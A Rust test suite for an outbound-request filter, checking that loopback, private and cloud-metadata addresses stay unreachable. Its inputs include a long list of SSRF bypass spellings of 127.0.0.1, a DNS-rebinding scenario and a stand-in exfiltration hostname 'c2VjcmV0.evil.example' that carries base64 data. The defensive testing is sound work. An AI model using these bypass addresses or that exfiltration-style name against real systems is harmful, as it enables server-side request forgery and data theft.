//! Places that may not be reached, and every way to name them. The canary sees nobody.

use ringfence_egress::{Class, EgressError, Limits, Outgoing};

use crate::peer::{Canary, Peer};
use crate::stage::{Everything, Nothing, Script, egress, send, text};

/// Everything that is public, by a resolver that must not be asked.
fn public() -> Outgoing {
    egress(Script::new(&[])).outgoing(Everything::and(&[]), Limits::default())
}

#[tokio::test]
async fn no_spelling_of_this_machine_reaches_it() {
    let canary = Canary::on("127.0.0.1").await;
    let port = canary.port();
    let outgoing = public();
    for host in [
        "127.0.0.1",
        "127.0.0.1.",
        "127.1",
        "127.0.1",
        "2130706433",
        "0x7f.1",
        "0x7f000001",
        "0177.0.0.1",
        "017700000001",
        "0",
        "0.0.0.0",
        "[::1]",
        "[::]",
        "[::127.0.0.1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::ffff:0:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[64:ff9b:1::7f00:1]",
        "[2002:7f00:1::]",
        "[2001:0:7f00:1::]",
        "[fe80::5efe:7f00:1]",
        "ok@127.0.0.1",
        "ok:ok@127.0.0.1",
    ] {
        let refused = send(&outgoing, format!("http://{host}:{port}/")).await;
        assert!(
            matches!(
                refused,
                Err(EgressError::Malformed(_) | EgressError::Address { .. })
            ),
            "{host}: {refused:?}"
        );
    }
    assert!(outgoing.touched().reached.is_empty());
    canary.assert_untouched().await;
}

#[tokio::test]
async fn names_that_lead_here_are_of_no_use() {
    let canary = Canary::on("127.0.0.1").await;
    for (answer, class) in [
        (&["127.0.0.1"][..], Class::Loopback),
        // One bad address among good ones spoils them all, wherever it stands.
        (&["8.8.8.8", "127.0.0.1"], Class::Loopback),
        (&["127.0.0.1", "8.8.8.8"], Class::Loopback),
        (&["::ffff:127.0.0.1"], Class::Loopback),
        (&["64:ff9b::a9fe:a9fe"], Class::Metadata),
        (&["169.254.169.254"], Class::Metadata),
        (&["fd00:ec2::254"], Class::Metadata),
        (&["10.0.0.1"], Class::Private),
        (&["0.0.0.0"], Class::Unspecified),
    ] {
        let outgoing =
            egress(Script::new(&[answer])).outgoing(Everything::and(&[]), Limits::default());
        for host in ["localhost", "LOCALHOST.", "inner.example"] {
            let refused = send(&outgoing, format!("http://{host}:{}/", canary.port())).await;
            let Err(EgressError::Address { class: found, .. }) = refused else {
                panic!("{host} at {answer:?}: {refused:?}");
            };
            assert_eq!(found, class, "{host} at {answer:?}");
        }
        assert!(outgoing.touched().reached.is_empty());
        assert_eq!(outgoing.touched().denied.len(), 2);
    }
    canary.assert_untouched().await;
}

/// A name that is good when it is checked and bad when it is connected to: it is looked up once for
/// each request, and what was checked is what is connected to.
#[tokio::test]
async fn a_name_that_changes_between_check_and_connection_changes_nothing() {
    let canary = Canary::on("127.0.0.1").await;
    let peer = Peer::answering(&["HTTP/1.1 204 No Content\r\n\r\n"]).await;
    // The first answer is where the peer listens, and stands for a public address.
    let resolver = Script::new(&[&["127.0.0.1"], &["127.0.0.2"]]);
    let outgoing = egress(std::sync::Arc::clone(&resolver))
        .outgoing(Everything::and(&["127.0.0.1/32"]), Limits::default());
    let url = format!("http://rebind.example:{}/", peer.port());
    assert_eq!(send(&outgoing, &url).await.unwrap().status(), 204);
    assert_eq!(resolver.asked(), ["rebind.example"]);
    // The second request is checked anew, and its answer is not within the range.
    let url = format!("http://rebind.example:{}/", canary.port());
    let refused = send(&outgoing, &url).await;
    assert!(
        matches!(refused, Err(EgressError::Address { .. })),
        "{refused:?}"
    );
    assert_eq!(resolver.asked().len(), 2);
    canary.assert_untouched().await;
}

#[tokio::test]
async fn a_name_that_may_not_be_reached_is_told_to_nobody() {
    let resolver = Script::new(&[&["8.8.8.8"]]);
    let outgoing = egress(std::sync::Arc::clone(&resolver))
        .outgoing(std::sync::Arc::new(Nothing), Limits::default());
    let refused = send(&outgoing, "https://c2VjcmV0.evil.example/").await;
    assert!(
        matches!(refused, Err(EgressError::Denied(_))),
        "{refused:?}"
    );
    assert!(outgoing.lookup("c2VjcmV0.evil.example").await.is_err());
    assert_eq!(resolver.asked(), [""; 0]);
    assert_eq!(
        outgoing.touched().denied,
        [
            "grant `net=https://c2VjcmV0.evil.example`".to_lowercase(),
            "no socket is granted for `c2vjcmv0.evil.example`".to_owned(),
        ]
    );
}

#[tokio::test]
async fn a_range_opens_what_it_says() {
    let peer = Peer::answering(&["HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nhi"]).await;
    let canary = Canary::on("127.0.0.1").await;
    let rules = Everything::and(&["127.0.0.1/32"]);
    let outgoing = egress(Script::new(&[])).outgoing(rules, Limits::default());
    let url = format!("http://127.0.0.1:{}/", peer.port());
    assert_eq!(
        text(send(&outgoing, url).await.unwrap()).await.unwrap(),
        "hi"
    );
    for host in ["[64:ff9b::7f00:1]", "127.0.0.2", "[::1]"] {
        let refused = send(&outgoing, format!("http://{host}:{}/", canary.port())).await;
        assert!(
            matches!(refused, Err(EgressError::Address { .. })),
            "{host}"
        );
    }
    canary.assert_untouched().await;
}

#[tokio::test]
async fn too_many_and_no_addresses_are_refused() {
    let many: Vec<String> = (0..33).map(|last| format!("8.8.8.{last}")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    for answer in [&many[..], &[]] {
        let outgoing =
            egress(Script::new(&[answer])).outgoing(Everything::and(&[]), Limits::default());
        let refused = send(&outgoing, "http://many.example/").await;
        assert!(
            matches!(refused, Err(EgressError::Resolve(..))),
            "{refused:?}"
        );
    }
}

#[tokio::test]
async fn as_many_addresses_as_may_be_are_tried_in_part() {
    let peer = Peer::answering(&["HTTP/1.1 204 No Content\r\n\r\n"]).await;
    // Nobody listens at the others, so each refuses at once.
    let answers = |count: usize, place: usize| -> Vec<String> {
        let other = |last: usize| format!("127.0.1.{}", last + 1);
        let mut answers: Vec<_> = (0..count).map(other).collect();
        "127.0.0.1".clone_into(&mut answers[place]);
        answers
    };
    for (count, place, reached) in [(32, 0, true), (32, 3, true), (32, 4, false), (33, 0, false)] {
        let peer = if reached && place == 3 {
            &Peer::answering(&["HTTP/1.1 204 No Content\r\n\r\n"]).await
        } else {
            &peer
        };
        let answers = answers(count, place);
        let answers: Vec<_> = answers.iter().map(String::as_str).collect();
        let rules = Everything::and(&["127.0.0.0/8"]);
        let outgoing = egress(Script::new(&[&answers])).outgoing(rules, Limits::default());
        let sent = send(&outgoing, format!("http://many.example:{}/", peer.port())).await;
        assert_eq!(sent.is_ok(), reached, "{count} {place}: {sent:?}");
    }
}

#[tokio::test]
async fn a_denial_says_what_kind_of_place_it_is() {
    for (answer, words) in [
        (
            "127.0.0.1",
            "leads to a loopback address, which is not granted",
        ),
        (
            "169.254.169.254",
            "leads to a metadata service, which is not granted",
        ),
        (
            "10.0.0.1",
            "leads to a private address, which is not granted",
        ),
    ] {
        let outgoing =
            egress(Script::new(&[&[answer]])).outgoing(Everything::and(&[]), Limits::default());
        let refused = send(&outgoing, "http://inner.example/").await.unwrap_err();
        assert_eq!(refused.to_string(), format!("`inner.example` {words}"));
        assert_eq!(outgoing.touched().denied, [refused.to_string()]);
    }
}
